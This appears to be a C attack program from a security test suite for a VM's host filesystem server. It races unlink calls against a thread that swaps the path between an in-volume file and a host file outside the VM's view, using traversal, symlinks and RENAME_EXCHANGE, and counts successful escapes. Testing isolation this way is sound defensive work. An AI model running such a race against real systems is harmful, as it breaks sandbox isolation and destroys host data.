/* An unlink's path flipped, while the manager serves it, between a file in the VM and a host
 * file outside the VM's view (the C loop serves the unlink of a plain path,
 * hvfs/_native/served_mutate.h; the rest is Python's).
 *
 * unlink_flip TRIES SECONDS VOLUME FORBIDDEN [FORBIDDEN...]
 *
 * The program works in VOLUME (its cwd). Each FORBIDDEN spells the host's secret (its host
 * path, "../" ones up and out of the volume, through a symlink on the volume to its
 * directory); for its share of the time a thread flips a buffer between the allowed name
 * ("victim", spelt absolute or relative as FORBIDDEN is) and FORBIDDEN, while the main thread
 * makes "victim" again and unlinks the buffer (unlink and unlinkat, in turn). FORBIDDEN
 * "swap:HOSTDIR" is another race: the path is VOLUME/swapdir/secret, and the thread exchanges
 * (RENAME_EXCHANGE) swapdir, a directory of the volume, with a symlink to HOSTDIR.
 *
 * Counters: "inside" (an unlink removed the volume's file), "refused" (an error), "escapes"
 * (an unlink that succeeded while the volume's file is still there: something else went),
 * "tries", "unlinkat_tries".
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <pthread.h>
#include <stdatomic.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static char buffer[4096], allowed[4096], forbidden[4096], host[4096];
static atomic_int stop;
static long inside, refused, escapes, at_tries;

static void dwell(void) {
    for (volatile int i = 0; i < 64; i++) {
    }
}

static void *flip(void *unused) {
    (void)unused;
    while (!atomic_load(&stop)) {
        memcpy(buffer, allowed, strlen(allowed) + 1);
        dwell();
        memcpy(buffer, forbidden, strlen(forbidden) + 1);
        dwell();
    }
    return NULL;
}

/* The volume's "swapdir" is its directory, then a symlink to the host directory, in turn. */
static void *swap(void *unused) {
    (void)unused;
    while (!atomic_load(&stop)) {
        syscall(SYS_renameat2, AT_FDCWD, "swapdir", AT_FDCWD, "swap.link", RENAME_EXCHANGE);
        dwell();
    }
    return NULL;
}

int main(int argc, char **argv) {
    attack_begin(argc, argv);
    if (argc < 5) {
        fprintf(stderr, "usage: unlink_flip TRIES SECONDS VOLUME FORBIDDEN...\n");
        return 2;
    }
    const char *volume = argv[3];
    if (chdir(volume) < 0)
        return 3;
    int targets = argc - 4;
    double start = attack_now(), share = (attack_deadline - start) / targets;
    long i = 0;
    for (int k = 0; k < targets; k++) {
        const char *target = argv[4 + k];
        int swapping = strncmp(target, "swap:", 5) == 0;
        int home = AT_FDCWD; /* the directory of the volume the victim is made in */
        const char *victim = "victim";
        if (swapping) {
            snprintf(host, sizeof host, "%s", target + 5);
            snprintf(buffer, sizeof buffer, "%s/swapdir/secret", volume);
            victim = "secret";
            mkdir("swapdir", 0755);
            if (symlink(host, "swap.link") < 0 || (home = open("swapdir", O_PATH | O_DIRECTORY | O_CLOEXEC)) < 0)
                return 5;
        } else {
            snprintf(forbidden, sizeof forbidden, "%s", target);
            if (target[0] == '/')
                snprintf(allowed, sizeof allowed, "%s/victim", volume);
            else
                snprintf(allowed, sizeof allowed, "victim");
            memcpy(buffer, allowed, strlen(allowed) + 1);
        }
        atomic_store(&stop, 0);
        pthread_t flipper;
        pthread_create(&flipper, NULL, swapping ? swap : flip, NULL);
        double until = start + share * (k + 1);
        long last = attack_tries / targets * (k + 1);
        for (; attack_more(i) && i < last && attack_now() < until; i++) {
            int fd = openat(home, victim, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
            if (fd >= 0)
                close(fd);
            int got = i % 2 ? unlinkat(AT_FDCWD, buffer, 0) : unlink(buffer);
            at_tries += i % 2;
            struct stat there;
            if (got < 0)
                refused++;
            else if (fstatat(home, victim, &there, AT_SYMLINK_NOFOLLOW) < 0)
                inside++;
            else
                escapes++;
        }
        atomic_store(&stop, 1);
        pthread_join(flipper, NULL);
        if (home != AT_FDCWD)
            close(home);
    }
    printf("{\"tries\": %ld, \"inside\": %ld, \"refused\": %ld, \"escapes\": %ld, \"unlinkat_tries\": %ld}\n", i,
           inside, refused, escapes, at_tries);
    return 0;
}
